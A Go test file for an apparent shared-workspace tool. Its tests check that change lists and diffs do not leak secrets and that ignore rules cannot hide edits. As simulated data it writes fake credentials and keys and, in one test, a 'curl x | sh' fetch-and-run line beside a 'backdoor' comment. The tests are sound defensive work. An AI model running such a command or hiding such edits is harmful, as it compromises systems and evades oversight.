	write(t, dir, "keys/prod.pem", "-----BEGIN KEY-----\nline one of the key\nline two of the key\nline three of the key\n-----END KEY-----\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, ".env", "SECRET_ENV=envsecret123\nSECRET_ENV2=edited\n")       // edited in the party
	write(t, dir, "copy.conf", "SECRET_ENV=envsecret123\n")                      // the start's .env
	write(t, dir, "copy2.conf", "SECRET_ENV=envsecret123\nSECRET_ENV2=edited\n") // .env now
	write(t, dir, "near.txt", "-----BEGIN KEY-----\nline one of the key\nline two of the key\nline three of the key\n-----END KEY-----\nand a note\n")
	write(t, dir, "plain.go", "package plain\n")
	move(t, dir, "keys/prod.pem", "moved.txt")
	files, _, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range files {
		names = append(names, f.Path+" "+f.Status+" "+f.From)
	}
	if want := []string{"copy.conf added ", "copy2.conf added ", "moved.txt added ", "near.txt added ", "plain.go added "}; !slices.Equal(names, want) {
		t.Fatalf("changes %q, want %q", names, want)
	}
	for _, p := range []string{"copy.conf", "copy2.conf", "moved.txt", "near.txt"} {
		if d, err := w.Diff(ctx, p, false); err == nil || strings.Contains(d.Diff, "envsecret") || strings.Contains(d.Diff, "of the key") {
			t.Errorf("diff of %s: %+v %v", p, d, err)
		}
	}
	if d, err := w.Diff(ctx, "plain.go", false); err != nil || !strings.Contains(d.Diff, "+package plain") {
		t.Errorf("diff of plain.go: %+v %v", d, err)
	}
	// Sharing the whole folder, the copies are listed and diffed, each as the new file
	// it is: no "from" on an added file (§9 gives it to renames), and a copy's diff is
	// its own, not its source's too (a conformance tester's moved.txt came with .env's).
	files, _, err = w.Changes(ctx, true)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if f.From != "" && f.Status != "renamed" {
			t.Errorf("shared whole, %s is %s from %s", f.Path, f.Status, f.From)
		}
	}
	for _, p := range []string{"copy.conf", "copy2.conf", "near.txt"} {
		d, err := w.Diff(ctx, p, true)
		if err != nil || strings.Count(d.Diff, "diff --git ") != 1 || !strings.Contains(d.Diff, "+++ b/"+p) {
			t.Errorf("shared whole, the diff of %s: %+v %v", p, d, err)
		}
	}
}

// The change list is in the order a person reads: numbers by their value and each
// folder's files together (a tester's list read r1, r10, r2).
func TestChangesInReadingOrder(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "keep.txt", "x\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"r10.txt", "r2.txt", "r1.txt", "src.txt", "src/a.go", "src-old/b.go"} {
		write(t, dir, p, "new\n")
	}
	files, _, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range files {
		got = append(got, f.Path)
	}
	want := []string{"r1.txt", "r2.txt", "r10.txt", "src/a.go", "src-old/b.go", "src.txt"}
	if !slices.Equal(got, want) {
		t.Fatalf("order %q, want %q", got, want)
	}
}

// BenchmarkChangesManyNewFiles: a change list of 25,000 new one-line files in one folder.
// Marking files too large to track (markLarge) once asked git of each by TREE:PATH, which
// git looks up one path at a time: over a minute, and the list timed out.
//
//	go test -run '^$' -bench ChangesManyNewFiles -benchtime 3x ./internal/workspace
func BenchmarkChangesManyNewFiles(b *testing.B) {
	ctx := context.Background()
	dir, state := b.TempDir(), b.TempDir()
	w, err := Open(ctx, dir, state, Options{})
	if err != nil {
		b.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(dir, "data"), 0o755); err != nil {
		b.Fatal(err)
	}
	for i := range 25000 {
		if err := os.WriteFile(filepath.Join(dir, "data", fmt.Sprintf("%05d.csv", i)), []byte(fmt.Sprintf("row %d\n", i)), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	if _, _, err := w.Changes(ctx, false); err != nil { // the first snapshot of them
		b.Fatal(err)
	}
	b.ResetTimer()
	for range b.N {
		files, _, err := w.Changes(ctx, false)
		if err != nil || len(files) != 25000 {
			b.Fatalf("%d files, %v", len(files), err)
		}
	}
}

// A diff reads the list Changes made of its snapshot: it does not list the changes again.
// Made again on every diff, under the lock, a member's diffs after a large refactor held
// the lock for seconds each and everyone's Changes waited (a reviewer's 25 s).
func TestDiffDoesNotListTheChangesAgain(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "a.txt", "one\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "a.txt", "two\n")
	// Written well before the list: a file written since (or within a file system's
	// coarse time of it) is looked at again (TestDiffIsOfTheFileNow).
	hourAgo := time.Now().Add(-time.Hour)
	if err := os.Chtimes(filepath.Join(dir, "a.txt"), hourAgo, hourAgo); err != nil {
		t.Fatal(err)
	}
	if files, _, err := w.Changes(ctx, false); err != nil || len(files) != 1 {
		t.Fatalf("changes %+v %v", files, err)
	}
	log := filepath.Join(t.TempDir(), "git.log")
	wrapper := filepath.Join(t.TempDir(), "git")
	if err := os.WriteFile(wrapper, []byte("#!/bin/sh\necho \"$*\" >> '"+log+"'\nexec '"+w.git+"' \"$@\"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	w.git = wrapper
	for range 3 {
		if d, err := w.Diff(ctx, "a.txt", false); err != nil || !strings.Contains(d.Diff, "+two") {
			t.Fatalf("diff %+v %v", d, err)
		}
	}
	ran, err := os.ReadFile(log)
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(string(ran), "--raw"); n != 0 { // how changes() lists them
		t.Errorf("three diffs listed the changes %d times:\n%s", n, ran)
	}
}

// The private repository keeps the start and the latest snapshot, not every snapshot's
// objects: a tester's 540 turns left 554 objects for one file of 4 KB.
func TestSnapshotsDoNotPileUp(t *testing.T) {
	defer func(n int) { pruneEvery = n }(pruneEvery)
	pruneEvery = 5
	ctx := context.Background()
	dir, state := t.TempDir(), t.TempDir()
	write(t, dir, "grow.txt", "line 0\n")
	write(t, dir, "same.txt", "unchanged\n")
	w, err := Open(ctx, dir, state, Options{})
	if err != nil {
		t.Fatal(err)
	}
	// A lock a git killed in update-ref left behind (a host killed then) stopped every prune.
	if err := os.MkdirAll(filepath.Join(w.gitDir, "refs", "concordia"), 0o700); err != nil {
		t.Fatal(err)
	}
	write(t, w.gitDir, "refs/concordia/last.lock", "")
	text := "line 0\n"
	for i := 1; i <= 30; i++ {
		text += fmt.Sprintf("line %d\n", i)
		write(t, dir, "grow.txt", text)
		if _, _, err := w.Changes(ctx, false); err != nil {
			t.Fatal(err)
		}
	}
	loose, _ := filepath.Glob(filepath.Join(w.gitDir, "objects", "??", "*"))
	// The start (a tree, two blobs), the last snapshot (a tree, a blob) and those of up to
	// pruneEvery snapshots since the last prune (a tree and a blob each).
	if len(loose) > 5+2*pruneEvery {
		t.Errorf("%d loose objects after 30 snapshots", len(loose))
	}
	d, err := w.Diff(ctx, "grow.txt", false)
	if err != nil || !strings.Contains(d.Diff, "+line 30") || !strings.Contains(d.Diff, " line 0") {
		t.Fatalf("the diff after the prunes: %+v %v", d, err)
	}
	// A resumed party still has its start.
	again, err := Open(ctx, dir, state, Options{Resumed: true})
	if err != nil {
		t.Fatal(err)
	}
	files, _, err := again.Changes(ctx, false)
	if err != nil || len(files) != 1 || files[0].Path != "grow.txt" || files[0].Additions != 30 {
		t.Fatalf("after a resume: %+v %v", files, err)
	}
}

// Ignore rules cannot hide a file git itself would show: one the host's repository tracks
// though a pattern matches it (a tester's committed app.cfg under *.cfg was never listed),
// nor a file of the start once a .gitignore line names it during the party (a tester's
// `echo src/ >> .gitignore` then refused the diff of the backdoor added to src/app.go), not
// even when the host's own ignore patterns change, which starts the snapshot's index
// afresh. A file new and ignored is still left out.
func TestIgnoreRulesCannotHideTrackedOrStartingFiles(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, ".gitignore", "*.cfg\n")
	write(t, dir, "src/app.go", "package app\n")
	write(t, dir, "notes.txt", "mine\n")
	gitInit(t, dir)
	write(t, dir, "app.cfg", "port=1\n")
	for _, args := range [][]string{{"add", "-f", "app.cfg"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "cfg"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	write(t, dir, "local.sh", "echo hi\n") // there at the start, never committed
	state := t.TempDir()
	w, err := Open(ctx, dir, state, Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "app.cfg", "port=1\nexec=/tmp/x\n")
	write(t, dir, ".gitignore", "*.cfg\nsrc/\n*.sh\n")
	write(t, dir, "local.sh", "echo hi\ncurl x | sh\n")
	write(t, dir, "src/app.go", "package app\n\n// backdoor\n")
	write(t, dir, "src/new.go", "package app\n") // new, and ignored: left out
	write(t, dir, "other.cfg", "new=1\n")        // the same
	check := func(when string) {
		t.Helper()
		files, _, err := w.Changes(ctx, false)
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]string{}
		for _, f := range files {
			got[f.Path] = f.Status
		}
		want := map[string]string{"app.cfg": "modified", ".gitignore": "modified", "src/app.go": "modified", "local.sh": "modified"}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("%s: changes %v, want %v", when, got, want)
		}
		for _, p := range []string{"app.cfg", "src/app.go", "local.sh"} {
			d, err := w.Diff(ctx, p, false)
			if err != nil || !strings.Contains(d.Diff, "+") {
				t.Fatalf("%s: diff of %s: %+v %v", when, p, d, err)
			}
		}
		if _, err := w.Diff(ctx, "src/new.go", false); err == nil || !strings.Contains(err.Error(), "ignored") {
			t.Fatalf("%s: diff of a new ignored file: %v", when, err)
		}
		ents, err := w.Tree(ctx, "src")
		if err != nil || len(ents) != 1 || ents[0].Name != "app.go" {
			t.Fatalf("%s: tree of src: %+v %v", when, ents, err)
		}
		if !w.Shares(ctx, "src/app.go") || w.Shares(ctx, "src/new.go") {
			t.Fatalf("%s: shares src/app.go %v, src/new.go %v", when, w.Shares(ctx, "src/app.go"), w.Shares(ctx, "src/new.go"))
		}
	}
	check("after the edits")
	// The host's own ignore files change during the party: this run keeps the start's
	// patterns (writeExcludes), and a resume, which reads them again, rebuilds the index
	// (kept.go adds the kept files back: TestIgnoredStaysIgnoredWhateverTheAgentDoes).
	w.ignores = append(w.ignores, ignoreSource{file: filepath.Join(t.TempDir(), "none")})
	write(t, filepath.Dir(w.ignores[len(w.ignores)-1].file), "none", "notes.txt\n")
	check("after the host's patterns changed")
	// Nor the host's own ignore files, which the agent reaches as easily (.git/info/exclude
	// is in the folder) and whose change no list shows (a reviewer's).
	write(t, filepath.Dir(w.ignores[len(w.ignores)-1].file), "none", "notes.txt\nsrc/\n*.cfg\n*.sh\n")
	check("after the host's patterns named them")
	if _, err := w.Diff(ctx, "notes.txt", false); !errors.Is(err, ErrNotFound) || strings.Contains(err.Error(), "ignored") {
		t.Fatalf("notes.txt, a file of the start the host's patterns now name: %v", err)
	}
	// A resume reads the host's patterns again, and, as they changed, rebuilds the index
	// from nothing: the kept files are added back.
	write(t, dir, ".git/info/exclude", "src/\n*.sh\n*.cfg\n")
	if w, err = Open(ctx, dir, state, Options{Resumed: true}); err != nil {
		t.Fatal(err)
	}
	check("after a resume with other patterns")
}

// The start's tracked files are the start's: a `git add -f` during the party of a file
// that .gitignore hides does not make it everyone's (a reviewer's config/local.yml, its
// password listed whole), nor does a file the host's index marks skip-worktree show (git
// status does not). And a file the host's own ignore files name, not there at the start,
// stays hidden when a .gitignore in the folder un-ignores it with "!" (a reviewer's).
func TestIgnoredStaysIgnoredWhateverTheAgentDoes(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	t.Setenv("XDG_CONFIG_HOME", "")
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "config/local.yml", "password: hunter2\n")
	write(t, dir, "config/shared.yml", "port: 1\n")
	gitInit(t, dir) // shared.yml committed, then ignored and marked skip-worktree: kept out
	write(t, dir, ".gitignore", "config/local.yml\nconfig/shared.yml\n")
	gitRun0 := exec.Command("git", "rm", "-q", "--cached", "config/local.yml")
	gitRun0.Dir = dir
	if out, err := gitRun0.CombinedOutput(); err != nil {
		t.Fatalf("git rm: %v\n%s", err, out)
	}
	gitRun := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	gitRun("update-index", "--skip-worktree", "config/shared.yml")
	write(t, dir, ".git/info/exclude", "notes.txt\nprivate/\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "config/local.yml", "password: hunter3\n")
	gitRun("add", "-f", "config/local.yml")
	write(t, dir, "config/shared.yml", "port: 2\ntoken: s3cret\n")
	write(t, dir, "notes.txt", "host private\n")
	write(t, dir, "private/plan.md", "host private\n")
	write(t, dir, ".gitignore", "config/local.yml\nconfig/shared.yml\n!notes.txt\n!private/\n")
	files, _, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if f.Path != ".gitignore" {
			t.Fatalf("listed %+v, want only .gitignore", files)
		}
	}
	for _, p := range []string{"config/local.yml", "notes.txt"} {
		if d, err := w.Diff(ctx, p, false); err == nil || strings.Contains(d.Diff, "hunter") || strings.Contains(d.Diff, "private") {
			t.Fatalf("diff of %s: %+v %v", p, d, err)
		}
		if w.Shares(ctx, p) {
			t.Fatalf("%s is shared", p)
		}
	}
	// A folder too, by its folder pattern (a tester's /tree listed "private/").
	if ents, err := w.Tree(ctx, ""); err != nil || slices.ContainsFunc(ents, func(e wire.TreeEntry) bool { return e.Name == "notes.txt" || e.Name == "private" }) {
		t.Fatalf("the tree: %+v %v", ents, err)
	}
	if _, err := w.Tree(ctx, "private"); !errors.Is(err, ErrPath) {
		t.Fatalf("the tree of private/: %v", err)
	}
}

// A diff reads the file as it is now: one made or written since the last list (a tester's
// fresh.txt "had no changes since the party began", and then showed only its first line).
func TestDiffIsOfTheFileNow(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "a.txt", "a\n")
	hourAgo := time.Now().Add(-time.Hour) // long before any snapshot
	if err := os.Chtimes(filepath.Join(dir, "a.txt"), hourAgo, hourAgo); err != nil {
		t.Fatal(err)
	}
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := w.Changes(ctx, false); err != nil {
		t.Fatal(err)
	}
	write(t, dir, "fresh.txt", "hello\n")
	d, err := w.Diff(ctx, "fresh.txt", false)
	if err != nil || !strings.Contains(d.Diff, "+hello") {
		t.Fatalf("a file made after the last list: %+v %v", d, err)
	}
	write(t, dir, "fresh.txt", "hello\nsecond\n")
	if d, err = w.Diff(ctx, "fresh.txt", false); err != nil || !strings.Contains(d.Diff, "+second") {
		t.Fatalf("a file written again: %+v %v", d, err)
	}
	if err := os.Remove(filepath.Join(dir, "fresh.txt")); err != nil {
		t.Fatal(err)
	}
	if _, err = w.Diff(ctx, "fresh.txt", false); !errors.Is(err, ErrNotFound) {
		t.Fatalf("a file deleted since: %v", err)
	}
	// An unchanged file takes no new snapshot: its answer is the last list's.
	before := w.lastAt
	if _, err := w.Diff(ctx, "a.txt", false); !errors.Is(err, ErrNotFound) {
		t.Fatalf("an unchanged file: %v", err)
	}
	if w.lastAt != before {
		t.Error("a diff of a file unchanged since the last list took a snapshot")
	}
	// A file of the start deleted since the last list (a reviewer's read "no changes").
	if err := os.Remove(filepath.Join(dir, "a.txt")); err != nil {
		t.Fatal(err)
	}
	if d, err := w.Diff(ctx, "a.txt", false); err != nil || !strings.Contains(d.Diff, "-a") {
		t.Fatalf("a file of the start deleted since: %+v %v", d, err)
	}
}

// A long diff is cut at the end of a line: "+3" of "+39017" read as a line of its own (a
// tester's).
func TestDiffCutAtALineEnd(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	// Three files, so that the limit falls inside a line in at least one of them.
	for _, prefix := range []string{"", "x", "xy"} {
		var b strings.Builder
		for i := 1; i <= 200000; i++ {
			fmt.Fprintf(&b, "%s%d\n", prefix, i)
		}
		name := "big" + prefix + ".txt"
		write(t, dir, name, b.String())
		d, err := w.Diff(ctx, name, false)
		if err != nil || !d.Truncated || len(d.Diff) > MaxDiff || !strings.HasSuffix(d.Diff, "\n") {
			t.Fatalf("%s: truncated %v, %d bytes, ends %q, %v", name, d.Truncated, len(d.Diff), d.Diff[max(0, len(d.Diff)-12):], err)
		}
		lines := strings.Split(strings.TrimSuffix(d.Diff, "\n"), "\n")
		last := strings.TrimPrefix(lines[len(lines)-1], "+"+prefix)
		prev := strings.TrimPrefix(lines[len(lines)-2], "+"+prefix)
		if p, err := strconv.Atoi(prev); err != nil || last != strconv.Itoa(p+1) {
			t.Fatalf("%s ends %q, %q: a line cut in two", name, prev, last)
		}
	}
	// One line longer than the limit (a minified file) is cut inside it, not left out whole
	// (a reviewer's 400 KB line came back as its 125 bytes of headers).
	write(t, dir, "min.js", strings.Repeat("x", 400<<10))
	if d, err := w.Diff(ctx, "min.js", false); err != nil || !d.Truncated || len(d.Diff) < MaxDiff/2 || len(d.Diff) > MaxDiff {
		t.Fatalf("a minified file: truncated %v, %d bytes, %v", d.Truncated, len(d.Diff), err)
	}
}

// A file rewritten again and again, asked about each time, makes the private repository
// prune sooner than every pruneEvery snapshots: a tester's 30 MB file grew it by 30 MB a
// /changes.
func TestSnapshotsPruneByTheBytesTheyWrote(t *testing.T) {
	defer func(n int64) { pruneBytes = n }(pruneBytes)
	pruneBytes = 1 << 20
	ctx := context.Background()
	dir := t.TempDir()
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	noise := make([]byte, 400<<10)
	for i := 0; i < 12; i++ {
		rand.NewChaCha8([32]byte{byte(i)}).Read(noise) // changes every time, and does not compress
		if err := os.WriteFile(filepath.Join(dir, "dump.bin"), noise, 0o644); err != nil {
			t.Fatal(err)
		}
		if _, _, err := w.Changes(ctx, false); err != nil {
			t.Fatal(err)
		}
	}
	var stored int64
	filepath.WalkDir(filepath.Join(w.gitDir, "objects"), func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			if fi, err := d.Info(); err == nil {
				stored += fi.Size()
			}
		}
		return nil
	})
	// 12 versions of 400 KiB were written; a prune after each MiB leaves at most about
	// four of them (and the start's and last's).
	if stored > 2<<20 {
		t.Fatalf("the private repository holds %d KiB after 12 rewrites of 400 KiB", stored>>10)
	}
}

// The working directory moved away: said as that, not as git's "fork/exec /usr/bin/git:
// no such file or directory", which read as git missing (a tester's).
func TestAFolderGone(t *testing.T) {
	ctx := context.Background()
	parent := t.TempDir()
	dir := filepath.Join(parent, "ws")
	write(t, dir, "a.txt", "a\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "src/b.txt", "b\n")
	if _, _, err := w.Changes(ctx, false); err != nil { // a list first: later answers are not from it
		t.Fatal(err)
	}
	move(t, parent, "ws", "ws-moved")
	if _, err := w.Diff(ctx, "a.txt", false); !errors.Is(err, ErrGone) {
		t.Fatalf("diff of a file not listed, after a list: %v", err)
	}
	if _, err := w.Tree(ctx, "src"); !errors.Is(err, ErrGone) {
		t.Fatalf("tree of a folder: %v", err)
	}
	if _, _, err := w.Changes(ctx, false); !errors.Is(err, ErrGone) {
		t.Fatalf("changes: %v", err)
	}
	if _, err := w.Diff(ctx, "a.txt", false); !errors.Is(err, ErrGone) {
		t.Fatalf("diff: %v", err)
	}
	if _, err := w.Tree(ctx, ""); !errors.Is(err, ErrGone) {
		t.Fatalf("tree: %v", err)
	}
}

// /diff of a folder of changed files said it "has no changes since the party began" (a
// tester's /diff docs/): it is said to be a folder.
func TestDiffOfAFolder(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "docs/a.md", "a\n")
	if _, err := w.Diff(ctx, "docs", false); !errors.Is(err, ErrPath) || !strings.Contains(err.Error(), "docs is a folder") {
		t.Fatalf("diff of a folder: %v", err)
	}
}

// A folder is kept when it holds a kept file, at any depth; its neighbours are not.
func TestKeptFolders(t *testing.T) {
	k := newKept(map[string]bool{"src/app/main.go": true, "a.txt": true}, map[string]bool{"vendor/x/y.go": true})
	for p, want := range map[string]bool{
		"src": true, "src/app": true, "src/app/main.go": true, "a.txt": true, "vendor": true, "vendor/x": true,
		"sr": false, "src/ap": false, "src/app/main": false, "vendor/y": false, "b.txt": false, "": false,
	} {
		if k.has(p) != want {
			t.Errorf("has(%q) = %v, want %v", p, !want, want)
		}
	}
	if (*keptPaths)(nil).has("a.txt") {
		t.Error("nil has a.txt")
	}
}

// A repository of its own inside the folder stops no snapshot: one with no commit (git
// init, cargo new) failed every one, the list never updated; one made over a kept file
// failed them once the index was rebuilt (a tester's, both).
func TestRepositoriesInsideTheFolder(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "app.go", "package app\n")
	write(t, dir, "lib/a.go", "package lib\n")
	gitInit(t, dir)
	state := t.TempDir()
	w, err := Open(ctx, dir, state, Options{})
	if err != nil {
		t.Fatal(err)
	}
	git := func(in string, args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@t"}, args...)...)
		cmd.Dir = filepath.Join(dir, in)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	write(t, dir, "newcrate/main.rs", "fn main() {}\n")
	git("newcrate", "init", "-q")
	git("lib", "init", "-q")
	git("lib", "add", ".")
	git("lib", "commit", "-qm", "lib")
	write(t, dir, "app.go", "package app\n\n// edited\n")
	changed := func(when string) {
		t.Helper()
		files, _, err := w.Changes(ctx, false)
		if err != nil {
			t.Fatalf("%s: %v", when, err)
		}
		if !slices.ContainsFunc(files, func(f wire.FileChange) bool { return f.Path == "app.go" && f.Status == "modified" }) {
			t.Fatalf("%s: app.go not listed: %+v", when, files)
		}
	}
	changed("with two repositories inside")
	// A resume with other patterns rebuilds the index: lib/a.go, a kept file, is now in a
	// repository of its own.
	write(t, dir, ".git/info/exclude", "*.tmp\n")
	if w, err = Open(ctx, dir, state, Options{Resumed: true}); err != nil {
		t.Fatal(err)
	}
	changed("after a resume")
}

// A changed file named as a pattern ("*", "[a-z]*", ":(glob)**") is diffed alone: git took
// the name after "--" as a pattern, and the diff of "*" came with every changed file's,
// the .env and the key the party hides among them (a security reviewer's).
func TestDiffOfAFileNamedLikeAPattern(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, ".env", "A=1\n")
	write(t, dir, "keys/id_rsa", "old key\n")
	write(t, dir, "main.go", "package main\n")
	write(t, dir, ".gitignore", ":*.tmp\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, ":b.tmp", "ignored, though its name starts with a colon\n")
	write(t, dir, ".env", "A=1\nNEW_SECRET=hunter2\n")
	write(t, dir, "keys/id_rsa", "new key\n")
	write(t, dir, "main.go", "package main // edited\n")
	// (A name starting with ":" stopped git's check-ignore, and the whole list with it.)
	names := []string{"*", "[a-z]*", "?", ":(glob)**"}
	for _, n := range names {
		write(t, dir, n, "the file "+n+"\n")
	}
	files, _, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != len(names)+1 {
		t.Fatalf("changes %+v: want main.go and %q", files, names)
	}
	for _, n := range names {
		d, err := w.Diff(ctx, n, false)
		if err != nil {
			t.Fatalf("the diff of %q: %v", n, err)
		}
		if strings.Count(d.Diff, "diff --git") != 1 || !strings.Contains(d.Diff, "+the file "+n) {
			t.Errorf("the diff of %q is not of it alone:\n%s", n, d.Diff)
		}
		for _, leak := range []string{"hunter2", "new key", "edited"} {
			if strings.Contains(d.Diff, leak) {
				t.Errorf("the diff of %q shows %q:\n%s", n, leak, d.Diff)
			}
		}
	}
}

// A file named as no secret is may hold one: its diff is not shared in "changes" (a
// security reviewer's ssh-keygen -f deploy_key, whose private key every viewer read);
// sharing the whole folder shows it, as it shows .env.
func TestDiffOfAFileThatHoldsACredential(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, "README", "hi\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	write(t, dir, "deploy_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n")
	write(t, dir, "ci.sh", "git clone https://bot:s3cr3tpass@example.com/repo.git\n")
	write(t, dir, "main.go", "package main // an ordinary change\n")
	if _, _, err := w.Changes(ctx, false); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"deploy_key", "ci.sh"} {
		d, err := w.Diff(ctx, p, false)
		if !errors.Is(err, ErrPath) || !strings.Contains(err.Error(), "looks like a credential") || d.Diff != "" {
			t.Errorf("the diff of %s in changes: %+v %v", p, d, err)
		}
		if d, err := w.Diff(ctx, p, true); err != nil || d.Diff == "" {
			t.Errorf("the diff of %s with the whole folder shared: %+v %v", p, d, err)
		}
	}
	if d, err := w.Diff(ctx, "main.go", false); err != nil || !strings.Contains(d.Diff, "an ordinary change") {
		t.Errorf("the diff of main.go: %+v %v", d, err)
	}
}

// withoutRevs is files with their Rev taken off, for comparing the rest.
func withoutRevs(files []wire.FileChange) []wire.FileChange {
	out := slices.Clone(files)
	for i := range out {
		out[i].Rev = ""
	}
	return out
}

// A window tester's turn rewrote a file with as many lines added and deleted as before,
// and its card listed no file changed: a list told them apart only by status and counts.
// Rev changes with the content, and only with it; a deleted file has none.
func TestRevFollowsTheContent(t *testing.T) {
	ctx := context.Background()
	dir := startingDir(t, true)
	state := t.TempDir()
	w, err := Open(ctx, dir, state, Options{})
	if err != nil {
		t.Fatal(err)
	}
	revs := func() map[string]string {
		t.Helper()
		files, _, err := w.Changes(ctx, false)
		if err != nil {
			t.Fatal(err)
		}
		m := map[string]string{}
		for _, f := range files {
			m[f.Path] = f.Rev
		}
		return m
	}
	write(t, dir, "a.txt", "one\n")
	write(t, dir, "b.txt", "kept\n")
	if err := os.Remove(filepath.Join(dir, "gone.txt")); err != nil {
		t.Fatal(err)
	}
	first := revs()
	write(t, dir, "a.txt", "two\n") // the same counts: +1
	second := revs()
	if first["a.txt"] == "" || first["a.txt"] == second["a.txt"] {
		t.Fatalf("a.txt rewritten: rev %q then %q, want two different ones", first["a.txt"], second["a.txt"])
	}
	if first["b.txt"] == "" || first["b.txt"] != second["b.txt"] {
		t.Fatalf("b.txt left alone: rev %q then %q, want the same", first["b.txt"], second["b.txt"])
	}
	if r, ok := second["gone.txt"]; !ok || r != "" {
		t.Fatalf("gone.txt deleted: listed %v, rev %q; want listed with none", ok, r)
	}
	write(t, dir, "a.txt", "one\n") // back as it was: the same rev as then
	if third := revs(); third["a.txt"] != first["a.txt"] {
		t.Fatalf("a.txt as it was: rev %q, want %q", third["a.txt"], first["a.txt"])
	}
	// Two files with the same content do not say so (a reviewer's: a member could have a
	// guess written beside a file whose text nobody is sent).
	write(t, dir, "twin.txt", "one\n")
	if r := revs(); r["twin.txt"] == "" || r["twin.txt"] == r["a.txt"] {
		t.Fatalf("a.txt and twin.txt, the same content: revs %q and %q, want two different ones", r["a.txt"], r["twin.txt"])
	}
	// A link retargeted, and a link that became a file, rewritten (a reviewer's: these
	// lists were built afresh, without it).
	if err := os.Symlink("a.txt", filepath.Join(dir, "ln")); err != nil {
		t.Fatal(err)
	}
	linked := revs()["ln"]
	if err := os.Remove(filepath.Join(dir, "ln")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("b.txt", filepath.Join(dir, "ln")); err != nil {
		t.Fatal(err)
	}
	if again := revs()["ln"]; linked == "" || again == linked {
		t.Fatalf("ln retargeted: rev %q then %q, want two different ones", linked, again)
	}
	// A resumed party's workspace (the same state) gives the same revs.
	if w, err = Open(ctx, dir, state, Options{}); err != nil {
		t.Fatal(err)
	}
	if again := revs(); again["a.txt"] != first["a.txt"] || again["b.txt"] != first["b.txt"] {
		t.Fatalf("after a resume: revs %v, want those of before %v", again, first)
	}
}

// Past maxCopySearch new files git's copy search is not run: an exact copy of a secret is
// still found, by its blob (the list's own, since the changes are read with --raw).
func TestAnExactCopyOfASecretAmongManyNewFiles(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	write(t, dir, ".env", "SECRET_ENV=envsecret123\n")
	w, err := Open(ctx, dir, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	for i := range maxCopySearch + 1 {
		write(t, dir, fmt.Sprintf("gen/f%03d.txt", i), fmt.Sprintf("file %d\n", i))
	}
	write(t, dir, "copy.conf", "SECRET_ENV=envsecret123\n")
	if _, err := w.Diff(ctx, "copy.conf", false); err == nil {
		t.Fatal("the exact copy of .env among many new files: its diff was given")
	}
	files, _, err := w.Changes(ctx, false)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		// Listed as the new file it is, with no rev: its content is a secret's.
		if f.Path == "copy.conf" && (f.From != "" || f.Rev != "") {
			t.Fatalf("the exact copy of .env is listed as %+v", f)
		}
	}
}
